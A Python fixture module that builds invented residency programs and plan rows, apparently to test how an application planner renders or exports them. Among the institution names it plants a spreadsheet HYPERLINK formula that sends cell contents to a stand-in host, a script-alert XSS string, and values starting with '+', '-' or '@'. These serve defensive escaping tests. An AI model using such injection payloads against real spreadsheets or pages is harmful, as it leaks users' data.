"""Invented programs for the sample plan: no institution, code or city here exists."""

from __future__ import annotations

from smartpick.domain.chance import Estimate, Grade
from smartpick.domain.plan import Action, Band, Basis, ProgramRow, Signal, Tier
from smartpick.domain.program import Program, Track, TrackKind

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'
MARKUP = "<script>alert('Example')</script> [bold]Hospital & C[/bold]"


def sample_program(
    number: int,
    specialty: str,
    institution: str,
    kinds: tuple[TrackKind, ...],
    *,
    city: str | None = "Exampleville",
    state: str | None = "NY",
    seats: int | None = 3,
) -> Program:
    """A program with one track of each kind; its ids contain the number."""
    program_id = f"sample-{specialty}-{number}"
    tracks = tuple(
        Track(
            track_id=f"{9000 + number}{i:03}X0",
            program_id=program_id,
            name=f"{specialty} {kind.value}",
            specialty=specialty,
            kind=kind,
            primary_care=False,
            quota_2026=seats,
            filled_2026=None if seats is None else max(0, seats - 1),
            quotas=() if seats is None else ((2025, seats), (2026, seats)),
            fills=() if seats is None else ((2025, seats), (2026, max(0, seats - 1))),
        )
        for i, kind in enumerate(kinds)
    )
    return Program(
        program_id=program_id,
        specialty=specialty,
        institution=institution,
        institution_id=f"sample-institution-{number}",
        city=city,
        state=state,
        latitude=None if state is None else 40.0 + number / 10,
        longitude=None if state is None else -75.0 - number / 10,
        acgme_id=None if number % 2 else f"99900{number:05}",
        website=None,
        tracks=tracks,
    )


def _openness(value: float | None, low: float, high: float) -> Estimate:
    return Estimate(value, "share", low, high, year=2026, grade=Grade.DERIVED, sources=("sample-state",))


def _interview(value: float, low: float, high: float) -> Estimate:
    return Estimate(value, "chance", low, high, year=2026, grade=Grade.JUDGED, sources=("sample-judgement",))


def sample_rows() -> tuple[ProgramRow, ...]:
    """Nine rows: three lists, every tier, action and signal, formula and markup in the text."""
    derm, medicine, year = "dermatology", "internal_medicine", "preliminary_medicine"
    advanced, whole, one = TrackKind.ADVANCED, TrackKind.CATEGORICAL, TrackKind.PRELIMINARY
    return (
        ProgramRow(
            sample_program(1, derm, "Example Hospital A", (advanced,)),
            "target",
            (advanced,),
            3,
            Tier.TWO,
            Basis.ESTIMATE,
            Action.APPLY,
            ("You have a research mentor here: a strong and direct tie.", "The visa policy is unknown."),
            "unknown",
            Basis.UNKNOWN,
            _openness(0.06, 0.01, 0.14),
            Band.HIGHER,
            None,
            on_list=True,
            signal=Signal.GOLD,
            rank_in_list=1,
        ),
        ProgramRow(
            sample_program(2, medicine, FORMULA, (whole,), state="NJ", seats=24),
            "backup",
            (whole,),
            24,
            Tier.ONE,
            Basis.EVIDENCE,
            Action.APPLY,
            ("+Sponsors J-1 and has trained three IMGs, as you noted.",),
            "sponsors J-1 (website, 3 Oct 2026)",
            Basis.EVIDENCE,
            _openness(0.41, 0.30, 0.52),
            Band.UNKNOWN,
            _interview(0.06, 0.02, 0.14),
            on_list=True,
            rank_in_list=2,
        ),
        ProgramRow(
            sample_program(
                3, year, "Example Clínica Ünïversität B", (one,), city="São Exemplo", state="FL", seats=12
            ),
            "pgy1",
            (one,),
            12,
            Tier.NOT_FOR_TYPE,
            Basis.UNKNOWN,
            Action.CHECK_FIRST,
            ("Gives the PGY-1 year that advanced dermatology seats need.",),
            "unknown",
            Basis.UNKNOWN,
            _openness(0.22, 0.12, 0.35),
            Band.MIDDLE,
            None,
            on_list=True,
            rank_in_list=3,
        ),
        ProgramRow(
            sample_program(4, derm, MARKUP, (advanced, whole), state="CA", seats=5),
            "target",
            (advanced, whole),
            10,
            Tier.THREE,
            Basis.JUDGED,
            Action.APPLY,
            ("Your own rotation here outweighs the unknown visa policy.",),
            "unknown",
            Basis.UNKNOWN,
            _openness(None, 0.0, 0.12),
            Band.MIDDLE,
            None,
            on_list=True,
            signal=Signal.SILVER,
            rank_in_list=4,
        ),
        ProgramRow(
            sample_program(
                5,
                medicine,
                "Example Medical Center With A Name So Long That No Column Can Hold It",
                (whole,),
                state="PA",
                seats=40,
            ),
            "backup",
            (whole,),
            40,
            Tier.ONE,
            Basis.ESTIMATE,
            Action.APPLY,
            ("Large program in a state where many seats go to non-US citizen IMGs.",),
            "likely J-1 (estimate)",
            Basis.ESTIMATE,
            _openness(0.52, 0.45, 0.60),
            Band.UNKNOWN,
            _interview(0.004, 0.001, 0.02),
            on_list=True,
            rank_in_list=5,
        ),
        ProgramRow(
            sample_program(6, medicine, "Example Hospital D", (whole,), city=None, state=None, seats=None),
            "backup",
            (whole,),
            0,
            Tier.TWO,
            Basis.JUDGED,
            Action.SKIP,
            ("No strong tie, and the next application here adds less than the stop mark.",),
            "unknown",
            Basis.UNKNOWN,
            _openness(0.10, 0.02, 0.25),
            Band.LOWER,
            _interview(0.01, 0.002, 0.03),
        ),
        ProgramRow(
            sample_program(7, derm, "Example Hospital E", (advanced,), state="TX"),
            "target",
            (advanced,),
            3,
            Tier.NO_RECORD,
            Basis.ESTIMATE,
            Action.SKIP,
            ("No IMG record, no visa: an application that cannot work.",),
            "does not sponsor (website, 3 Oct 2026)",
            Basis.EVIDENCE,
            _openness(0.0, 0.0, 0.05),
            Band.LOWER,
            None,
        ),
        ProgramRow(
            sample_program(8, derm, "Example Hospital F", (TrackKind.RESERVED,), state="OH", seats=1),
            "target",
            (TrackKind.RESERVED,),
            1,
            Tier.CLOSED,
            Basis.EVIDENCE,
            Action.CLOSED,
            ("Its seats are reserved for physicians with earlier training.",),
            "does not sponsor (e-mail, 12 Nov 2026)",
            Basis.EVIDENCE,
            Estimate(None, "share"),
            Band.UNKNOWN,
            None,
        ),
        ProgramRow(
            sample_program(9, medicine, "@Example Hospital G", (whole,), state="NY", seats=8),
            "backup",
            (whole,),
            8,
            Tier.ONE,
            Basis.ESTIMATE,
            Action.APPLY,
            ("-Where you live now.",),
            "unknown",
            Basis.UNKNOWN,
            _openness(0.33, 0.20, 0.47),
            Band.UNKNOWN,
            _interview(0.05, 0.02, 0.11),
            on_list=True,
            signal=Signal.SINGLE,
            rank_in_list=6,
        ),
    )
